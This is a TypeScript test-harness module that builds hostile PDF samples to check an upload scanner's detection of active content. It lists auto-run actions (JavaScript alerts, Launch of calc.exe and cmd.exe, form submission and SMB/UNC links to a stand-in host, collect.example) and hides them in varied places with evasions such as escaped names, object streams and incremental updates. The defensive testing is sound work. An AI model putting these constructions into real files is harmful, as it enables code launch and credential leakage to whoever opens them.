import { PDFDocument } from 'mupdf'
import type { Random } from '../../../scripts/demo/random.ts'
import { firstMore, onePage } from '../../harness/uploads/pdfs/one-page.ts'
import { writePackedPdf } from '../../harness/uploads/pdfs/write-packed-pdf.ts'
import { type PdfObject, writeObject, writePdf } from '../../harness/uploads/pdfs/write-pdf.ts'
import type { HostileFile } from './hostile-file.ts'

type Additions = Parameters<typeof onePage>[0]

/** Actions that run when a file is opened or clicked. */
const actions: readonly string[] = [
  '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '<< /S /JavaScript /JS <6170702e616c6572742831293b> >>',
  '<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>',
  '<< /S /Launch /F (calc.exe) >>',
  '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  '<< /S /SubmitForm /F << /FS /URL /F (https://collect.example) >> >>',
  '<< /S /ImportData /F (secrets.fdf) >>',
  '<< /S /GoToR /F (//collect.example/a.pdf) /D [0 /Fit] >>',
  '<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>',
  '<< /S /URI /URI (smb://collect.example/share) >>',
  '<< /S /URI /URI (\\\\\\\\collect.example\\\\share) >>',
  '<< /S /Movie /T (a) >>',
  '<< /S /RichMediaExecute /CMD << /C (play) >> >>',
  '<< /S /GoTo3DView /V (F) >>',
  '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>',
  '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>',
  '<< /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >>',
]

const harmless = '<< /S /GoTo /D [3 0 R /Fit] >>'

const annotated = (annotation: string): Additions => ({
  page: `/Annots [${firstMore} 0 R]`,
  more: [`<< /Type /Annot /Rect [0 0 99 20] ${annotation} >>`],
})

/** Places where readers look for actions, and places where they do not. */
const places: Readonly<Record<string, (action: string) => Additions>> = {
  'when the file opens': (action) => ({ catalog: `/OpenAction ${action}` }),
  'before the file is saved': (action) => ({ catalog: `/AA << /WS ${action} >>` }),
  'when a page opens': (action) => ({ page: `/AA << /O ${action} >>` }),
  'among the names': (action) => ({ catalog: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }),
  'deep among the names': (action) => ({
    catalog: `/Names << /JavaScript << /Kids [${firstMore} 0 R] >> >>`,
    more: [`<< /Limits [(a) (a)] /Names [(a) ${action}] >>`],
  }),
  'behind a link': (action) => annotated(`/Subtype /Link /A ${action}`),
  'after what a link does': (action) =>
    annotated(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [${action}] >>`),
  'in a field of a form': (action) => ({
    ...annotated(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${action} >>`),
    catalog: `/AcroForm << /Fields [${firstMore} 0 R] >>`,
  }),
  'in the outline': (action) => ({
    catalog: `/Outlines ${firstMore} 0 R`,
    more: [
      `<< /First ${firstMore + 1} 0 R /Last ${firstMore + 1} 0 R /Count 1 >>`,
      `<< /Title (a) /Parent ${firstMore} 0 R /A ${action} >>`,
    ],
  }),
  'in an object that nothing refers to': (action) => ({ more: [`[ [ ${action} ] ]`] }),
}

type Writer = (objects: readonly PdfObject[], random: Random) => Buffer

const writers: Readonly<Record<string, Writer>> = {
  plainly: (objects) => writePdf(objects),
  'in packed objects': (objects) => writePackedPdf(objects),
  'under names with escapes': (objects, random) =>
    writePdf(objects.map((object) => (typeof object === 'string' ? escapeNames(object, random) : object))),
  'in a later change': (objects) => changedLater(objects),
  'by another program': (objects) =>
    Buffer.from(new PDFDocument(writePdf(objects)).saveToBuffer('compress,objstms').asUint8Array()),
}

/** A file with active content: an action, its place and its notation. */
export function activeFile(random: Random): HostileFile {
  const place = random.pick(Object.keys(places))
  const writer = random.pick(Object.keys(writers))
  const action = random.pick(actions)
  const write = (each: string) =>
    writers[writer]?.(onePage(places[place]?.(each) ?? {}), random) ?? Buffer.alloc(0)
  return {
    what: `${action} ${place}, written ${writer}`,
    bytes: write(action),
    codes: ['file_active'],
    harmless: write(harmless),
  }
}

function escapeNames(object: string, random: Random): string {
  const escaped = (letter: string) =>
    random.chance(0.4) ? `#${letter.charCodeAt(0).toString(16).padStart(2, '0')}` : letter
  return object.replace(/\/(\w+)/g, (_, name: string) => `/${name.replace(/\w/g, escaped)}`)
}

/** A harmless page, replaced by an incremental update. */
function changedLater(objects: readonly PdfObject[]): Buffer {
  const before = writePdf(onePage({}))
  const parts = [before]
  let size = before.length
  const table = objects.map((object, index) => {
    const part = writeObject(index + 1, object)
    parts.push(part)
    size += part.length
    return `${String(size - part.length).padStart(10, '0')} 00000 n `
  })
  const previous = /startxref\n(\d+)/.exec(before.toString('latin1'))?.[1]
  const end = [
    `xref\n1 ${table.length}\n${table.join('\n')}`,
    `trailer\n<< /Size ${table.length + 1} /Root 1 0 R /Prev ${previous} >>`,
    `startxref\n${size}\n%%EOF\n`,
  ]
  return Buffer.concat([...parts, Buffer.from(end.join('\n'))])
}
